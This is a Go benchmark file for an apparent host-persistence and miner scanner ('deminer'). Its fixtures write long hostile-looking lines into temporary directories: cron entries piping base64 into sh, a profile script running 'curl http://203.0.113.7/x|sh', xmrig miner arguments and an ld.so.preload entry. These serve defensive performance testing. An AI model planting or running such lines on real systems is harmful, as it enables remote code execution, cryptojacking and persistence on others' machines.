package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/deminer/deminer/internal/scan"
	"github.com/spf13/cobra"
)

// used is the processor time of this program, user and system: on a busy machine it tells more than the clock.
func used(b *testing.B) time.Duration {
	var u syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &u); err != nil {
		b.Fatal(err)
	}
	return time.Duration(u.Utime.Nano() + u.Stime.Nano())
}

// scans looks at a root again and again, from the opening of the host to the report.
func scans(b *testing.B, root, state string, mode scan.Mode) {
	from := used(b)
	for b.Loop() {
		f := &flags{root: root, state: state, quiet: true}
		if _, _, err := look(b.Context(), &cobra.Command{}, f, scan.Options{Mode: mode}); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64((used(b)-from).Milliseconds())/float64(b.N), "cpu-ms/op")
}

// BenchmarkQuick is a quick scan of this machine.
func BenchmarkQuick(b *testing.B) { scans(b, "/", b.TempDir(), scan.Quick) }

// longLines writes files of one line of about n bytes where cron, units, shells and the loader read them.
func longLines(b *testing.B, root string, n int) {
	fill := func(s string) string { return strings.Repeat(s, n/len(s)) }
	for name, text := range map[string]string{
		"etc/passwd":                       "root:x:0:0:root:/root:/bin/sh\ndeploy:x:1000:1000::/home/deploy:/bin/sh\n",
		"etc/cron.d/x":                     "* * * * * root /bin/" + fill("A"),
		"etc/cron.d/y":                     "* * * * * root " + fill("/tmp/x;"),
		"etc/cron.d/z":                     "* * * * * root " + fill("sh -c '/tmp/x' "),
		"etc/crontab":                      "* * * * * root echo " + fill("A;") + " | base64 -d | sh",
		"etc/systemd/system/x.service":     "[Service]\nExecStart=/bin/sh -c \"" + fill("A") + "\"",
		"etc/profile.d/t.sh":               fill("xmrig --donate-level 1 -o stratum+tcp://a:1 "),
		"etc/profile.d/u.sh":               "export PATH=/tmp/" + fill(":/a"),
		"etc/profile.d/v.sh":               fill("curl "),
		"etc/profile.d/w.sh":               fill(" ") + "curl http://203.0.113.7/x|sh",
		"etc/profile.d/x.sh":               fill("$("),
		"etc/profile.d/y.sh":               "bash " + fill("a "),
		"etc/profile.d/z.sh":               fill("sudo "),
		"home/deploy/.ssh/authorized_keys": "ssh-rsa " + fill("A"),
		"etc/sudoers":                      fill("a\\\n"),
		"etc/hosts":                        "127.0.0.1 " + fill("a "),
		"etc/ld.so.preload":                fill("/a:"),
	} {
		file := filepath.Join(root, name)
		if err := errors.Join(os.MkdirAll(filepath.Dir(file), 0o755), os.WriteFile(file, []byte(text+"\n"), 0o644)); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkLongLines tells whether hostile lines cost more than their length: a quarter of it should cost a quarter.
func BenchmarkLongLines(b *testing.B) {
	for _, kib := range []int{256, 1024} {
		b.Run(fmt.Sprint(kib, "KiB"), func(b *testing.B) {
			root := b.TempDir()
			longLines(b, root, kib<<10)
			scans(b, root, b.TempDir(), scan.Quick)
		})
	}
}
